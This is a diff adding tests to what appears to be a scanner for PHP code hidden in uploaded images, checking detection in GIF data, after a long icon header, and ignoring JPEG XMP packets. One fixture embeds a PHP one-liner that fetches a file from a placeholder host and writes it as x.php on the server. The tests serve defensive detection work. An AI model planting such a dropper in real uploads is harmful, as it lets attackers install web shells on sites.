@@ -64,4 +64,38 @@ describe('code after a binary header', () => {
     const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0]), SHELL]);
     expect(ruleText(zip, zip.length).text).toBeUndefined();
   });
+
+  it('judges a short open tag in image data, and code past a header longer than the sample', () => {
+    const tagged = Buffer.concat([
+      GIF_HEADER,
+      Buffer.alloc(40, 0x91),
+      Buffer.from(
+        "<? @fwrite(fopen('x.php','w'),file_get_contents('https://a.example/x.txt')); ?>",
+      ),
+      Buffer.alloc(40, 0x91),
+    ]);
+    expect(judge('/var/www/html/uploads/cat.gif', tagged)[0]).toMatchObject({
+      severity: 'critical',
+    });
+    // An icon of 70 KB, then the code: past the start the rules sample.
+    const icon = Buffer.concat([
+      Buffer.from([0, 0, 1, 0, 1, 0]),
+      Buffer.alloc(70 * 1024, 0xff),
+      SHELL,
+    ]);
+    const judged = ruleText(icon.subarray(0, 64 * 1024), icon.length, icon.subarray(-64 * 1024));
+    expect(judged).toMatchObject({
+      text: SHELL.toString(),
+      codeAfterBytes: icon.length - SHELL.length,
+    });
+    // An XMP packet's `<?xpacket` in a JPEG is no short open tag.
+    const xmp = Buffer.concat([
+      Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0, 0]),
+      Buffer.from(
+        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">',
+      ),
+      Buffer.alloc(64, 0),
+    ]);
+    expect(ruleText(xmp, xmp.length).text).toBeUndefined();
+  });
 });
